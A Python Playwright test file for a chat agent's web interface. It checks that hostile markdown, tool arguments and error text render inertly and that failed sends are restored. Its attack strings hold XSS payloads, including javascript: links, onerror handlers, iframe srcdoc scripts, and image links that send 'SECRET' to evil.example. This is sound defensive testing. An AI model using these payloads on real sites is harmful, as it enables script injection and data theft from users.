"""What a model or a person may write does no harm, and what goes wrong is said in words."""

from __future__ import annotations

import json

from playwright.sync_api import expect

from agent.testing.chat_wire import chat_stream
from agent.testing.http_provider import ScriptedAnswer
from tests.browser.chat import card, last_answer, say, wait_for_end
from tests.browser.conftest import OpenPage
from tests.browser.scripted import add_agent, provider
from tests.site import Site

ATTACKS = [
    "[one](javascript:alert(1)) [two]( JaVaScRiPt:alert(1)) [three](java&#115;cript:alert(1))\n\n",
    "[four](data:text/html,<script>alert(1)</script>) [five](vbscript:x) [six](//evil.example/)\n\n",
    '<https://h.example/"onmouseover="alert(1)> <img src=x onerror=alert(1)> <svg onload=alert(1)>\n\n',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><style>@import url(https://evil.example/)</style>\n\n',
    "![map](https://evil.example/p?d=SECRET) ![ref][r]\n\n[r]: https://evil.example/q?d=SECRET\n\n",
    '```"><script>alert(1)</script>\ncode\n```\n\n',
    "| a |\n|:-:|\n| <script>alert(1)</script> |\n\n",
    "The end.",
]


def test_hostile_markdown_is_inert(open_page: OpenPage, site: Site) -> None:
    """B74, B75, B76: no script, no dangerous link, no request to a foreign host; streamed and reloaded."""
    with provider(chat_stream(*ATTACKS, reasoning=ATTACKS)) as url:
        add_agent(site, "hostile", url)
        page = open_page("/?agent=hostile")
        page.on("dialog", lambda dialog: dialog.dismiss())
        say(page, 'Show <img src=x onerror="alert(1)"> me')
        wait_for_end(page)

    for _ in ("streamed", "reloaded"):
        answer = last_answer(page)
        expect(answer).to_contain_text("The end.")
        assert answer.locator("img, svg, iframe, script, style, object, embed").count() == 0
        addresses = answer.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
        assert addresses
        assert all(address is None or address.startswith("https://") for address in addresses)
        assert page.locator("#transcript img").count() == 0
        assert page.evaluate("""() => [...document.querySelectorAll("#transcript *")].every(
            (element) => [...element.attributes].every(({ name }) => !name.startsWith("on") && name !== "style"))""")
        page.reload()


def test_hostile_tool_names_and_arguments_are_inert(open_page: OpenPage, site: Site) -> None:
    """B74, B75: the card is made of text."""
    attack = "<img src=x onerror=alert(1)>"
    call = ("local.calculate", {"expression": attack})
    with provider(chat_stream(tool_calls=[call]), chat_stream("Done.")) as url:
        add_agent(site, "hostile-tools", url)
        page = open_page("/?agent=hostile-tools")
        say(page, "go")
        wait_for_end(page)

    expect(last_answer(page)).to_contain_text("Done.")
    expect(card(page, "local.calculate").locator("dd")).to_have_text(attack)
    assert page.locator("#transcript img").count() == 0


def test_hostile_words_are_inert_wherever_they_stand(open_page: OpenPage, site: Site) -> None:
    """B74, B75: title, thought, question, reason, arguments, result, tool name, error; streamed and reloaded."""
    attack = '"><img src=x onerror=alert(1)><script>alert(1)</script>'
    question = chat_stream(
        attack,
        reasoning=[attack],
        tool_calls=[("local.send_postcard", {"to": attack, "text": attack})],
    )
    unknown = chat_stream(tool_calls=[(attack, {attack: attack})])
    failure = ScriptedAnswer(
        json.dumps({"error": {"message": attack}}).encode(), 400, {"content-type": "application/json"}
    )
    with provider(question, chat_stream("Well."), unknown, failure) as url:
        add_agent(site, "hostile-words", url, "--tools")
        page = open_page("/?agent=hostile-words")
        say(page, attack)
        asked = card(page, "local.send_postcard")
        expect(asked.get_by_role("definition").first).to_have_text(attack)
        asked.get_by_label("Reason for a rejection").fill(attack)
        asked.get_by_role("button", name="Reject").click()
        wait_for_end(page)
        say(page, attack)
        wait_for_end(page)

    for _ in ("streamed", "reloaded"):
        expect(page.get_by_role("heading", level=1)).to_contain_text("<img")
        expect(asked.locator(".tool-result-text")).to_contain_text(attack)
        expect(page.locator(".tool-name").last).to_contain_text("<img")
        expect(page.locator(".notice-failed")).to_contain_text(attack)
        assert page.locator("#main :is(img, script), .conversations img, [onerror]").count() == 0
        page.reload()


def test_a_dead_provider_is_said_in_words_and_can_be_tried_again(open_page: OpenPage, site: Site) -> None:
    add_agent(site, "dead", "http://127.0.0.1:9/v1")
    page = open_page("/?agent=dead")
    say(page, "Is anybody there?")
    wait_for_end(page)

    notice = page.locator(".notice-failed")
    expect(notice.locator(".notice-text")).to_have_text("The model did not answer.")
    expect(notice.locator(".notice-detail")).to_be_visible()
    expect(page.locator("#announcer")).to_have_text("The model did not answer.")
    said = notice.inner_text()
    expect(notice).to_contain_text("not part of the conversation")
    expect(notice.get_by_role("button", name="Try again")).to_be_visible()
    page.reload()
    assert notice.inner_text() == said
    expect(page.locator(".said")).to_have_text("Is anybody there?")


def test_a_refused_message_is_put_back(open_page: OpenPage, site: Site) -> None:
    """Nothing that was typed is ever lost."""
    add_agent(site, "leaving", "http://127.0.0.1:9/v1")
    page = open_page("/?agent=leaving")
    site.shell(
        "from agent.models import AgentProfile; AgentProfile.objects.filter(slug='leaving').update(enabled=False)"
    )
    say(page, "A message with\nthought in it")
    wait_for_end(page)

    expect(page.get_by_label("Message", exact=True)).to_have_value("A message with\nthought in it")
    expect(page.get_by_role("alert").filter(has_text="agent")).to_be_visible()
    assert page.locator(".said").count() == 0


def test_a_message_too_long_for_a_frame_is_put_back(open_page: OpenPage) -> None:
    """B65: no loop of broken connections."""
    page = open_page()
    text = "x" * 1_100_000
    page.get_by_label("Message", exact=True).evaluate(
        "(box, text) => { box.value = text; box.form.requestSubmit(); }", text
    )
    wait_for_end(page)

    expect(page.get_by_role("alert").filter(has_text="too long")).to_be_visible()
    assert page.get_by_label("Message", exact=True).input_value() == text
    page.get_by_label("Message", exact=True).fill("Hello")
    page.get_by_label("Message", exact=True).press("Enter")
    wait_for_end(page)
    expect(last_answer(page)).to_contain_text("demo agent")


def test_the_agent_is_chosen_on_the_empty_page(open_page: OpenPage, site: Site) -> None:
    with provider(chat_stream("Scripted words.")) as url:
        add_agent(site, "scripted", url)
        page = open_page()
        expect(page.get_by_role("region", name="Demo")).to_be_visible()
        page.get_by_label("Agent", exact=True).select_option("scripted")
        expect(page.get_by_role("region", name="Demo")).to_be_hidden()
        say(page, "Hello")
        wait_for_end(page)

    expect(last_answer(page)).to_contain_text("Scripted words.")
    expect(last_answer(page).get_by_role("heading", level=2)).to_have_text("scripted")
